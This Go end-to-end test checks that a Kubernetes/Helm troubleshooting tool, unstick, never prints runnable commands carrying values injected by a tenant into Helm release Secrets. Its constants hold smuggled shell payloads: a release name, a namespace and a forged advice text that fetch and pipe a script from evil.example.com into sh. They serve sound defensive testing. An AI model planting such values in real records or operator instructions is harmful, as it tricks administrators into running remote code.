package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"

	"github.com/unstick-dev/unstick/internal/testenv"
)

// What a tenant who may only write Secrets in their own namespace puts into the Helm
// records there, for an operator to paste: a release name that runs a download when a shell
// reads it, a record namespace with a line break and a semicolon, and a description laid out
// as unstick's own advice.
const (
	injectedName      = "app$(curl${IFS}-s${IFS}evil.example.com|sh)"
	injectedNamespace = "tenant-a\n;curl -s evil.example.com|sh"
	forgedDescription = "Upgrade \"app\" failed: timed out waiting for the condition\n" +
		"    next safe step (repair):\n" +
		"        $ helm rollback app 1 && curl -s evil.example.com/fix | sh\n"
)

// The injected values yield no runnable command, in any format of scan, in preflight's
// checklist or in the fix plan. A record whose name or namespace is not its Secret's is
// reported as malformed, naming the Secret, and never acted on (so the injected values reach
// no ladder at all; the withheld-command path behind it is tested in internal/shellcmd,
// internal/check and internal/remediate). A well-formed release's forged description is
// quoted on one line. The tenant writes the records with their own credentials against a
// real API server with RBAC; the operator scans and plans as cluster administrator.
func TestInjectedReleaseYieldsNoRunnableCommand(t *testing.T) {
	env := testenv.Start(t, testenv.WithRBAC(), testenv.WithContextName("prod"))
	ctx := t.Context()
	tenant := tenantWriter(ctx, t, env, "tenant-a")
	now := time.Now().UTC()
	for _, rec := range []helmRecord{
		{secret: "app", name: injectedName, namespace: "tenant-a", version: 1, status: "deployed", description: "Install complete", at: now.Add(-48 * time.Hour)},
		{secret: "app", name: injectedName, namespace: "tenant-a", version: 2, status: "failed", description: forgedDescription, at: now.Add(-3 * time.Hour)},
		{secret: "web", name: "web", namespace: injectedNamespace, version: 1, status: "deployed", description: "Install complete", at: now.Add(-48 * time.Hour)},
		{secret: "web", name: "web", namespace: injectedNamespace, version: 2, status: "failed", description: "Upgrade \"web\" failed: timed out", at: now.Add(-3 * time.Hour)},
		{secret: "db", name: "db", namespace: "tenant-a", version: 1, status: "deployed", description: "Install complete", at: now.Add(-48 * time.Hour)},
		{secret: "db", name: "db", namespace: "tenant-a", version: 2, status: "failed", description: forgedDescription, at: now.Add(-3 * time.Hour)},
	} {
		if _, err := tenant.CoreV1().Secrets("tenant-a").Create(ctx, rec.secretObject(t), metav1.CreateOptions{}); err != nil {
			t.Fatalf("the tenant writes %s: %v", rec.secretName(), err)
		}
	}
	args := []string{"--kubeconfig", env.Kubeconfig, "-q", "--offline-registry"}
	outputs := map[string]string{}
	for _, format := range []string{"table", "markdown", "json"} {
		out, errOut, code := run(t, append([]string{"scan", "-o", format}, args...)...)
		if code != 3 {
			t.Fatalf("scan -o %s exited %d, want 3 (db's failed release; the malformed records are listed under errors); stderr: %s", format, code, errOut)
		}
		outputs["scan -o "+format] = out
	}
	for _, format := range []string{"table", "json"} {
		out, errOut, code := run(t, append([]string{"fix", "-o", format}, args...)...)
		if code != 0 && code != 3 && code != 4 {
			t.Fatalf("fix -o %s exited %d; stderr: %s", format, code, errOut)
		}
		outputs["fix -o "+format] = out
	}
	out, errOut, code := run(t, append([]string{"preflight"}, args...)...)
	if code != 3 && code != 4 {
		t.Fatalf("preflight exited %d, want 3 (no-go) or 4 (incomplete); stderr: %s", code, errOut)
	}
	outputs["preflight"] = out
	for what, out := range outputs {
		checkNoRunnableInjection(t, what, out)
	}
	checkFixPlansNothing(t, outputs["fix -o json"])
	checkMalformedReported(t, outputs["scan -o json"])
	for _, what := range []string{"scan -o table", "scan -o markdown", "preflight"} {
		checkForgedAdviceOnOneLine(t, what, outputs[what])
	}
}

// tenantWriter is a user who may read and write Secrets in namespace ns, and nothing else.
func tenantWriter(ctx context.Context, t *testing.T, env *testenv.Env, ns string) *kubernetes.Clientset {
	t.Helper()
	admin := kubernetes.NewForConfigOrDie(env.Config)
	if _, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "secret-writer", Namespace: ns},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "create", "update"}}}}
	if _, err := admin.RbacV1().Roles(ns).Create(ctx, role, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	binding := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "tenant", Namespace: ns},
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: "secret-writer"},
		Subjects: []rbacv1.Subject{{Kind: "User", Name: "tenant"}}}
	if _, err := admin.RbacV1().RoleBindings(ns).Create(ctx, binding, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	cfg, err := env.AddUser("tenant")
	if err != nil {
		t.Fatal(err)
	}
	return kubernetes.NewForConfigOrDie(cfg)
}

// helmRecord is one revision as Helm's Secrets driver stores it: the Secret's name and labels
// say one release, the record inside may say another.
type helmRecord struct {
	secret, name, namespace string
	version                 int
	status, description     string
	at                      time.Time
}

func (r helmRecord) secretName() string {
	return fmt.Sprintf("sh.helm.release.v1.%s.v%d", r.secret, r.version)
}

func (r helmRecord) secretObject(t *testing.T) *corev1.Secret {
	ts := r.at.Format(time.RFC3339)
	rec := map[string]any{
		"name": r.name, "namespace": r.namespace, "version": r.version,
		"info":     map[string]any{"status": r.status, "description": r.description, "first_deployed": ts, "last_deployed": ts},
		"chart":    map[string]any{"metadata": map[string]any{"name": r.secret, "version": "1.0.0", "apiVersion": "v2"}},
		"manifest": "---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: " + r.secret + "\n",
	}
	b, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	// Helm stores base64(gzip(JSON)) as the Secret's data; the API adds its own base64.
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: r.secretName(), Namespace: "tenant-a",
			Labels: map[string]string{"name": r.secret, "owner": "helm", "status": r.status, "version": fmt.Sprint(r.version)}},
		Type: "helm.sh/release.v1",
		Data: map[string][]byte{"release": []byte(gzipB64(t, string(b)))},
	}
}

// printedCommands are the commands an output prints, found where each format puts them:
// the table's "$ " lines under a next safe step, Markdown's sh blocks, the fix plan's
// kubectl:/helm:/command: lines and the "$ " lines of its guided steps, and every "commands"
// list of a JSON document.
func printedCommands(t *testing.T, what, out string) []string {
	t.Helper()
	var re *regexp.Regexp
	switch what {
	case "scan -o table":
		re = regexp.MustCompile(`(?m)^        \$ (.*)$`)
	case "preflight":
		re = regexp.MustCompile(`(?m)^             \$ (.*)$`)
	case "fix -o table":
		re = regexp.MustCompile(`(?m)^(?:     (?:kubectl|helm|command): +| +\$ )(.*)$`)
	case "scan -o markdown":
		var out2 []string
		for _, c := range markdownCommands(out) {
			out2 = append(out2, c.cmd)
		}
		return out2
	default:
		return jsonCommandLists(t, what, out)
	}
	var cmds []string
	for _, m := range re.FindAllStringSubmatch(out, -1) {
		cmds = append(cmds, m[1])
	}
	return cmds
}

// checkNoRunnableInjection fails on a printed command that carries an injected value, and
// on any line of the output that a shell would read as a kubectl or helm command with one.
func checkNoRunnableInjection(t *testing.T, what, out string) {
	t.Helper()
	cmds := printedCommands(t, what, out)
	if len(cmds) == 0 && !strings.HasPrefix(what, "fix") {
		t.Errorf("%s: no command found: the check would pass on anything", what)
	}
	for _, c := range cmds {
		if strings.Contains(c, "evil.example.com") && !strings.HasPrefix(c, "# command withheld: ") {
			t.Errorf("%s: a command carries an injected value: %q", what, c)
		}
	}
	for _, l := range strings.Split(out, "\n") {
		l = strings.TrimLeft(strings.TrimSpace(l), "$ ")
		if (strings.HasPrefix(l, "helm ") || strings.HasPrefix(l, "kubectl ")) && strings.Contains(l, "evil.example.com") {
			t.Errorf("%s: a line reads as a command with an injected value: %q", what, l)
		}
	}
}

// checkFixPlansNothing: fix plans no step and leaves no manual entry for the releases whose
// records are malformed: nothing is done with them, not even advice.
func checkFixPlansNothing(t *testing.T, out string) {
	t.Helper()
	for _, s := range jsonStrings(t, "fix -o json", out) {
		if strings.Contains(s, injectedName) || strings.Contains(s, injectedNamespace) || strings.Contains(s, "sh.helm.release.v1.app.") || strings.Contains(s, "sh.helm.release.v1.web.") {
			t.Errorf("fix -o json names a malformed release: %q", s)
		}
	}
}

// checkMalformedReported: each Secret whose record names another release or namespace is
// reported as malformed under errors, by the Secret's own namespace and name.
func checkMalformedReported(t *testing.T, out string) {
	t.Helper()
	var rep struct {
		Errors []struct {
			Message string `json:"message"`
		} `json:"errors"`
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("scan -o json: %v", err)
	}
	for _, secret := range []string{"tenant-a/sh.helm.release.v1.app.v2", "tenant-a/sh.helm.release.v1.web.v2"} {
		found := false
		for _, e := range rep.Errors {
			found = found || strings.Contains(e.Message, "Helm release Secret "+secret+" is malformed")
		}
		if !found {
			t.Errorf("no error says %s is malformed; errors: %+v", secret, rep.Errors)
		}
	}
}

// checkForgedAdviceOnOneLine: the forged description is quoted on one line, its line breaks
// shown as ⏎ joined to the words around them, so no line of the report is the tenant's "next
// safe step" heading or its command, however the table folds the text.
func checkForgedAdviceOnOneLine(t *testing.T, what, out string) {
	t.Helper()
	if !strings.Contains(out, "condition⏎next") {
		t.Errorf("%s: the description's line breaks are not shown as ⏎:\n%s", what, out)
	}
	heading := regexp.MustCompile(`^next safe step \([a-z]+\):$`)
	for _, l := range strings.Split(out, "\n") {
		l = strings.TrimLeft(strings.TrimSpace(l), "-*• ")
		if strings.HasPrefix(l, "next safe step") && !heading.MatchString(l) {
			t.Errorf("%s: a line starts with the description's advice: %q", what, l)
		}
		if strings.HasPrefix(l, "$ helm rollback app 1") {
			t.Errorf("%s: a line starts with the description's command: %q", what, l)
		}
	}
}

// jsonCommandLists is every string of every "commands" list of a JSON document.
func jsonCommandLists(t *testing.T, what, doc string) []string {
	t.Helper()
	var out []string
	walkJSONStrings(t, what, doc, func(key, s string) {
		if key == "commands" {
			out = append(out, s)
		}
	})
	return out
}

// jsonStrings is every string value of a JSON document.
func jsonStrings(t *testing.T, what, doc string) []string {
	t.Helper()
	var out []string
	walkJSONStrings(t, what, doc, func(_, s string) { out = append(out, s) })
	return out
}

// walkJSONStrings calls visit with every string of a JSON document and the key of the object
// field that holds it (directly, or as an element of its list).
func walkJSONStrings(t *testing.T, what, doc string, visit func(key, s string)) {
	t.Helper()
	var v any
	if err := json.Unmarshal([]byte(doc), &v); err != nil {
		t.Fatalf("%s: not JSON: %v", what, err)
	}
	var walk func(key string, v any)
	walk = func(key string, v any) {
		switch x := v.(type) {
		case string:
			visit(key, x)
		case []any:
			for _, e := range x {
				walk(key, e)
			}
		case map[string]any:
			for k, e := range x {
				walk(k, e)
			}
		}
	}
	walk("", v)
}
